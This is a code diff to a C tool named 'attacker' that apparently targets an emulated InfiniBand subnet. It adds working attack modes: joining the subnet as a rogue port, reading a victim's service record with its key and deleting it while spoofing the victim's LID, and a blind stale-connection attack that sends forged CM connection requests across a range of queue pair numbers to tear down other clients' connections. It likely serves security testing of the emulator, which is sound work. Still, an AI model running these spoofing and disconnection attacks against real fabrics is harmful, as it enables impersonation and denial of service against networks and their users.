@@ -29,8 +29,22 @@
  *	One RC RDMA WRITE Only of LEN bytes of 0xee, as the peer would send
  *	it, from this socket.  Prints "sent".
  *   attacker sa-lookup SM LID
- *	Asks SM's SA where LID lives (the vendor endpoint record).  Prints
- *	"endpoint ADDR:PORT" or "no record".
+ *	Becomes a port of SM's subnet (as any process can: it traps and
+ *	answers the SM's SMPs), then asks the SA where LID lives (the vendor
+ *	endpoint record).  Prints "endpoint ADDR:PORT" or "no record".
+ *   attacker sa-delete SM LID SERVICEID
+ *	Becomes a port, reads the ServiceRecord ServiceID of the port at LID
+ *	(its key included), then asks the SA to delete it twice: as itself
+ *	(its own SLID) and as the victim (SLID LID, from its own socket).
+ *	Prints "record: found" (or "record: none"), then "as itself: STATUS"
+ *	and "as the victim: STATUS" (the SA's status in hex, or "no answer").
+ *   attacker cm-stale TARGET SLID DLID CAGUID SERVICEID QPN_FIRST QPN_LAST
+ *	The blind stale-connection attack (IBA 12.4.1): a REQ for SERVICEID
+ *	for each QPN from QPN_FIRST to QPN_LAST, as if from the CA CAGUID at
+ *	LID SLID (a connected client of TARGET, at LID DLID), from this
+ *	socket.  A CM that believes it rejects each REQ whose QPN it knows as
+ *	connected as stale and ends that connection.  Prints "sent: N",
+ *	"rejected as stale: N" and "other answers: N".
  *
  * TARGET and SM are ADDR:PORT.  Exit 0 when the attempt was made (whatever
  * came of it), 2 for bad arguments, 1 when the socket cannot be had.
@@ -43,6 +57,7 @@
 
 #include "link/link.h"
 #include "mgmt/mad_packet.h"
+#include "wire/cm.h"
 #include "wire/packet.h"
 #include "wire/sa.h"
 #include "wire/smp.h"
@@ -62,6 +77,10 @@ struct rx {
 	struct sib_endpoint_record rec;
 	int sa_answers;
 	uint16_t sa_status;
+	uint8_t sa_data[IB_SA_DATA_BYTES]; /* the last SA answer's records */
+	uint64_t port_guid; /* acting as a port: listen_for answers the SM */
+	int cm_stale, cm_other; /* CM answers: REJ stale, anything else */
+	bool active;	    /* the SM set it ACTIVE */
 };
 
 static uint64_t now_ns(void)
@@ -85,6 +104,16 @@ static void rx_cb(void *arg, const uint8_t *buf, size_t len, const struct sib_en
 	mad = sib_mgmt_parse(&pkt, &a);
 	if (!mad)
 		return;
+	if (mad[1] == IB_MGMT_CLASS_CM) {
+		struct ib_cm_rej rej;
+
+		ib_cm_rej_decode(&rej, mad + IB_CM_DATA_OFFSET);
+		if (ib_bits_get(mad, 128, 16) == IB_CM_ATTR_REJ && rej.Reason == IB_CM_REJ_STALE_CONN)
+			r->cm_stale++;
+		else
+			r->cm_other++;
+		return;
+	}
 	if (mad[1] == IB_MGMT_CLASS_SUBN_ADM) {
 		struct ib_sa_mad m;
 
@@ -92,7 +121,8 @@ static void rx_cb(void *arg, const uint8_t *buf, size_t len, const struct sib_en
 		if (mad[3] & IB_MAD_METHOD_RESP) {
 			r->sa_answers++;
 			r->sa_status = m.hdr.Status;
-			if (!m.hdr.Status)
+			memcpy(r->sa_data, m.SubnAdmData, sizeof(r->sa_data));
+			if (!m.hdr.Status && m.hdr.AttributeID == SIB_SA_ATTR_ENDPOINT_RECORD)
 				sib_endpoint_record_decode(&r->rec, m.SubnAdmData);
 			return;
 		}
@@ -134,7 +164,10 @@ static void rx_cb(void *arg, const uint8_t *buf, size_t len, const struct sib_en
 	r->have_request = true;
 }
 
-/* Takes what arrives for up to ms milliseconds. */
+static void answer_as_port(struct rx *r, uint64_t guid);
+
+/* Takes what arrives for up to ms milliseconds (acting as a port, it
+ * answers the SM as it goes). */
 static void listen_for(struct rx *r, int ms)
 {
 	uint64_t end = now_ns() + (uint64_t)ms * 1000000ull;
@@ -145,6 +178,10 @@ static void listen_for(struct rx *r, int ms)
 
 		while (sib_link_poll(link_, 64, rx_cb, r) > 0)
 			;
+		if (r->port_guid && r->have_request) {
+			r->have_request = false;
+			answer_as_port(r, r->port_guid);
+		}
 		if (now >= end)
 			return;
 		if (sib_link_wait_arm(link_) > 0)
@@ -314,6 +351,7 @@ static void answer_as_port(struct rx *r, uint64_t guid)
 		if (method == IB_MAD_METHOD_SET) {
 			r->sets++;
 			r->set_lid = pi.LID;
+			r->active |= pi.PortState == IB_PORT_STATE_ACTIVE;
 		} else {
 			memset(&pi, 0, sizeof(pi));
 			pi.PortState = IB_PORT_STATE_INIT;
@@ -390,34 +428,176 @@ static int forge_write(const struct sib_endpoint *target, char **v)
 	return 0;
 }
 
-static int sa_lookup(const struct sib_endpoint *sm, uint16_t lid)
+/* Becomes a port of sm's subnet, as any process can: traps, and answers
+ * the SM's SMPs as a port with a fresh GUID would.  Its LID, or 0. */
+static uint16_t become_port(const struct sib_endpoint *sm, struct rx *r)
 {
-	struct sib_endpoint_record rec;
+	struct ib_notice n = { .IsGeneric = 1, .Type = IB_NOTICE_TYPE_URGENT,
+			       .ProducerType = IB_NOTICE_PRODUCER_CA,
+			       .TrapNumber = IB_TRAP_LINK_STATE_CHANGE };
+	struct ib_smp smp;
+
+	r->port_guid = 0x02000000a0000000ull | (uint64_t)(rand() & 0xffffff) << 1;
+	smp_hdr(&smp, IB_MAD_METHOD_TRAP, IB_SMP_ATTR_NOTICE, 0);
+	ib_notice_encode(&n, smp.SMPData);
+	send_smp(&smp, sm);
+	for (int i = 0; i < 250 && !r->active; i++)
+		listen_for(r, 20);
+	listen_for(r, 100); /* the SM takes the GetResp to its last Set */
+	return r->active ? r->set_lid : 0;
+}
+
+/* One SA request from this socket claiming SLID slid; 1 when answered
+ * (r->sa_status, r->sa_data), else 0. */
+static int sa_ask(const struct sib_endpoint *sm, struct rx *r, uint16_t slid, uint8_t method,
+		  uint16_t attr, uint64_t comp, const uint8_t *data, unsigned len)
+{
 	uint8_t mad[IB_MAD_BYTES];
-	char e[SIB_ENDPOINT_STRLEN];
 	struct sib_mad_addr a;
 	struct ib_sa_mad m;
-	struct rx r = { 0 };
 
 	memset(&m, 0, sizeof(m));
 	m.hdr.BaseVersion = IB_MAD_BASE_VERSION;
 	m.hdr.MgmtClass = IB_MGMT_CLASS_SUBN_ADM;
 	m.hdr.ClassVersion = IB_SA_CLASS_VERSION;
-	ib_mad_set_method(&m.hdr, IB_MAD_METHOD_GET);
-	m.hdr.TransactionID = 0x5a5a;
-	m.hdr.AttributeID = SIB_SA_ATTR_ENDPOINT_RECORD;
-	m.ComponentMask = SIB_EPR_COMP_LID;
-	memset(&rec, 0, sizeof(rec));
-	rec.LID = lid;
-	sib_endpoint_record_encode(&rec, m.SubnAdmData);
+	ib_mad_set_method(&m.hdr, method);
+	m.hdr.TransactionID = ((uint64_t)rand() << 32) | (uint64_t)rand();
+	m.hdr.AttributeID = attr;
+	m.ComponentMask = comp;
+	memcpy(m.SubnAdmData, data, len);
 	ib_sa_mad_encode(&m, mad);
-	sib_mad_addr_init(&a, SIB_QP1, SIB_SM_LID, SIB_LID_PERMISSIVE);
+	sib_mad_addr_init(&a, SIB_QP1, SIB_SM_LID, slid);
+	r->sa_answers = 0;
 	sib_mgmt_send(link_, &a, mad, sm);
-	listen_for(&r, 1000);
-	if (r.sa_answers && !r.sa_status)
-		printf("endpoint %s\n", sib_endpoint_str(&r.rec.ep, e));
+	for (int i = 0; i < 50 && !r->sa_answers; i++)
+		listen_for(r, 20);
+	return r->sa_answers > 0;
+}
+
+/* Where LID lid lives, asked as port my_lid; 0 and *rec, or -1. */
+static int endpoint_of(const struct sib_endpoint *sm, struct rx *r, uint16_t my_lid, uint16_t lid,
+		       struct sib_endpoint_record *rec)
+{
+	uint8_t data[SIB_ENDPOINT_RECORD_BYTES];
+
+	memset(rec, 0, sizeof(*rec));
+	rec->LID = lid;
+	sib_endpoint_record_encode(rec, data);
+	if (!sa_ask(sm, r, my_lid, IB_MAD_METHOD_GET, SIB_SA_ATTR_ENDPOINT_RECORD,
+		    SIB_EPR_COMP_LID, data, sizeof(data)) ||
+	    r->sa_status)
+		return -1;
+	*rec = r->rec;
+	return 0;
+}
+
+static int sa_lookup(const struct sib_endpoint *sm, uint16_t lid)
+{
+	struct sib_endpoint_record rec;
+	char e[SIB_ENDPOINT_STRLEN];
+	struct rx r = { 0 };
+	uint16_t me = become_port(sm, &r);
+
+	if (!me) {
+		printf("not configured\n");
+		return 0;
+	}
+	if (!endpoint_of(sm, &r, me, lid, &rec))
+		printf("endpoint %s\n", sib_endpoint_str(&rec.ep, e));
 	else
 		printf("no record\n");
+	return 0;
+}
+
+static void print_status(const char *who, int answered, uint16_t status)
+{
+	if (answered)
+		printf("%s: 0x%04x\n", who, status);
+	else
+		printf("%s: no answer\n", who);
+}
+
+static int sa_delete(const struct sib_endpoint *sm, uint16_t lid, uint64_t sid)
+{
+	uint8_t data[IB_SERVICE_RECORD_BYTES];
+	struct sib_endpoint_record victim;
+	struct ib_service_record q;
+	struct rx r = { 0 };
+	uint16_t me = become_port(sm, &r);
+	int answered;
+
+	if (!me || endpoint_of(sm, &r, me, lid, &victim)) {
+		printf("record: none (%s)\n", me ? "no such LID" : "not configured");
+		return 0;
+	}
+	memset(&q, 0, sizeof(q));
+	q.ServiceID = sid;
+	memcpy(q.ServiceGID.raw, victim.GID, 16);
+	ib_service_record_encode(&q, data);
+	if (!sa_ask(sm, &r, me, IB_MAD_METHOD_GET, IB_SA_ATTR_SERVICE_RECORD,
+		    IB_SR_COMP_SERVICE_ID | IB_SR_COMP_SERVICE_GID, data, sizeof(data)) ||
+	    r.sa_status) {
+		printf("record: none\n");
+		return 0;
+	}
+	printf("record: found\n");
+	/* The record as the SA gave it, key and all. */
+	memcpy(data, r.sa_data, sizeof(data));
+	answered = sa_ask(sm, &r, me, IB_MAD_METHOD_DELETE, IB_SA_ATTR_SERVICE_RECORD,
+			  IB_SR_COMP_SERVICE_ID | IB_SR_COMP_SERVICE_GID | IB_SR_COMP_SERVICE_P_KEY |
+				  IB_SR_COMP_SERVICE_KEY,
+			  data, sizeof(data));
+	print_status("as itself", answered, r.sa_status);
+	answered = sa_ask(sm, &r, lid, IB_MAD_METHOD_DELETE, IB_SA_ATTR_SERVICE_RECORD,
+			  IB_SR_COMP_SERVICE_ID | IB_SR_COMP_SERVICE_GID | IB_SR_COMP_SERVICE_P_KEY |
+				  IB_SR_COMP_SERVICE_KEY,
+			  data, sizeof(data));
+	print_status("as the victim", answered, r.sa_status);
+	return 0;
+}
+
+static int cm_stale(const struct sib_endpoint *target, char **v)
+{
+	uint16_t slid = (uint16_t)strtoul(v[0], NULL, 0), dlid = (uint16_t)strtoul(v[1], NULL, 0);
+	uint32_t first = (uint32_t)strtoul(v[4], NULL, 0), last = (uint32_t)strtoul(v[5], NULL, 0);
+	uint8_t mad[IB_MAD_BYTES];
+	struct sib_mad_addr a;
+	struct ib_mad_hdr h;
+	struct ib_cm_req req;
+	struct rx r = { 0 };
+	int sent = 0;
+
+	for (uint32_t qpn = first; qpn <= last && qpn <= 0xffffff; qpn++) {
+		memset(&h, 0, sizeof(h));
+		h.BaseVersion = IB_MAD_BASE_VERSION;
+		h.MgmtClass = IB_MGMT_CLASS_CM;
+		h.ClassVersion = IB_CM_CLASS_VERSION;
+		ib_mad_set_method(&h, IB_MAD_METHOD_SEND);
+		h.AttributeID = IB_CM_ATTR_REQ;
+		h.TransactionID = ((uint64_t)rand() << 32) | (uint64_t)rand();
+		memset(mad, 0, sizeof(mad));
+		ib_mad_hdr_encode(&h, mad);
+		memset(&req, 0, sizeof(req));
+		req.LocalCommID = (uint32_t)rand() | 1;
+		req.ServiceID = strtoull(v[3], NULL, 0);
+		req.LocalCAGUID = strtoull(v[2], NULL, 0);
+		req.LocalQPN = qpn;
+		req.TransportServiceType = IB_CM_TRANSPORT_RC;
+		req.StartingPSN = 1;
+		req.RemoteCMResponseTimeout = req.LocalCMResponseTimeout = 20;
+		req.P_Key = 0xffff;
+		req.PathPacketPayloadMTU = IB_MTU_4096;
+		req.Primary.LocalPortLID = slid;
+		req.Primary.RemotePortLID = dlid;
+		req.Primary.LocalACKTimeout = 14;
+		ib_cm_req_encode(&req, mad + IB_CM_DATA_OFFSET);
+		sib_mad_addr_init(&a, SIB_QP1, dlid, slid);
+		sent += sib_mgmt_send(link_, &a, mad, target) == 0;
+		listen_for(&r, 5);
+	}
+	listen_for(&r, 1000);
+	printf("sent: %d\nrejected as stale: %d\nother answers: %d\n", sent, r.cm_stale,
+	       r.cm_other);
 	return 0;
 }
 
@@ -427,7 +607,10 @@ static int usage(void)
 			"       attacker claim-sm TARGET SECONDS\n"
 			"       attacker claim-guid SM GUID SECONDS\n"
 			"       attacker forge-write TARGET SLID DLID QPN PSN VA RKEY LEN\n"
-			"       attacker sa-lookup SM LID\n");
+			"       attacker sa-lookup SM LID\n"
+			"       attacker sa-delete SM LID SERVICEID\n"
+			"       attacker cm-stale TARGET SLID DLID CAGUID SERVICEID QPN_FIRST "
+			"QPN_LAST\n");
 	return 2;
 }
 
@@ -460,6 +643,11 @@ int main(int argc, char **argv)
 		rc = forge_write(&target, argv + 3);
 	} else if (!strcmp(argv[1], "sa-lookup") && argc == 4) {
 		rc = sa_lookup(&target, (uint16_t)strtoul(argv[3], NULL, 0));
+	} else if (!strcmp(argv[1], "cm-stale") && argc == 9) {
+		rc = cm_stale(&target, argv + 3);
+	} else if (!strcmp(argv[1], "sa-delete") && argc == 5) {
+		rc = sa_delete(&target, (uint16_t)strtoul(argv[3], NULL, 0),
+			       strtoull(argv[4], NULL, 0));
 	} else {
 		rc = usage();
 	}
